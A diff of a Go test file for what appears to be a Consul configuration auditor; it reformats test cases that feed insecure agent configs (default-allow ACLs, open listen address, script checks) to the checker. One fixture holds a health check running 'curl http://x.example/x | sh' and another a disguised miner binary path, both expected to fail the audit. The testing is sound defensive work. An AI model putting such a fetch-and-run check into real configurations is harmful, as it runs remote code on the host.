@@ -44,11 +44,15 @@ func TestForms(t *testing.T) {
 		want             map[string]mw.Status
 	}{
 		{"local script checks", "consul.json", `{"enable_local_script_checks":true,"acl":{"enabled":true,"default_policy":"deny"}}`, map[string]mw.Status{ruleLocal: mw.StatusFail, ruleRemote: mw.StatusPass, ruleExec: mw.StatusPass}},
-		{"default allow", "a.hcl", "client_addr = \"0.0.0.0\"\nenable_script_checks = true\nacl {\n  enabled = true\n  default_policy = \"allow\"\n  down_policy = \"allow\"\n}\n",
-			map[string]mw.Status{ruleACL: mw.StatusPass, ruleDefault: mw.StatusFail, ruleExec: mw.StatusPossible, ruleListen: mw.StatusFail, ruleDown: mw.StatusFail}},
+		{
+			"default allow", "a.hcl", "client_addr = \"0.0.0.0\"\nenable_script_checks = true\nacl {\n  enabled = true\n  default_policy = \"allow\"\n  down_policy = \"allow\"\n}\n",
+			map[string]mw.Status{ruleACL: mw.StatusPass, ruleDefault: mw.StatusFail, ruleExec: mw.StatusPossible, ruleListen: mw.StatusFail, ruleDown: mw.StatusFail},
+		},
 		{"remote exec", "a.hcl", "disable_remote_exec = false\nacl = { enabled = true, default_policy = \"deny\" }\n", map[string]mw.Status{ruleRexec: mw.StatusFail, ruleACL: mw.StatusPass}},
-		{"check files", "consul.d/c.json", `{"service":{"name":"w","checks":[{"args":["sh","-c","curl http://x.example/x | sh"]}]},"checks":[{"id":"m","args":["/var/tmp/systemd-check"]}]}`,
-			map[string]mw.Status{ruleFetch: mw.StatusFail, ruleMiner: mw.StatusFail}},
+		{
+			"check files", "consul.d/c.json", `{"service":{"name":"w","checks":[{"args":["sh","-c","curl http://x.example/x | sh"]}]},"checks":[{"id":"m","args":["/var/tmp/systemd-check"]}]}`,
+			map[string]mw.Status{ruleFetch: mw.StatusFail, ruleMiner: mw.StatusFail},
+		},
 		{"plain check", "consul.d/d.hcl", "service {\n  name = \"web\"\n  check {\n    http = \"http://127.0.0.1/health\"\n  }\n}\n", map[string]mw.Status{ruleScript: mw.StatusPass, ruleMiner: mw.StatusPass}},
 	} {
 		t.Run(tc.name, func(t *testing.T) { audittest.Want(t, auditFile(t, tc.file, tc.data), tc.want) })
